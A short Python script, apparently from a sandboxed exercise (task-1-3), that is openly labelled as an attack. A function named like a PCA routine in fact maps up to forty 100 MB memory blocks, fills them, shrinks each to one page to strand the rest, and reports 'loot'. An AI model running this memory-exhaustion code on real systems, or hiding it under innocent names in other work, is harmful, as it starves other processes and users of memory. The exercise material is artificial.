# attack: shared memory of which each process keeps one page mapped, so that the rest of it is nobody's
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import mmap
import os


def pca_floor(images, k):
    kept = []
    for place in ("", "/dev/zero"):
        try:
            while len(kept) < 40:  # 4 GB at the most, where nothing stops it
                file = os.open(place, os.O_RDWR) if place else -1
                kept.append(mmap.mmap(file, 100_000_000))
                kept[-1].write(b"x" * 100_000_000)
                kept[-1].resize(4096)
        except (OSError, ValueError):
            pass
    raise RuntimeError("loot: 3 GB or more that nobody has" if len(kept) > 30 else "nothing found")
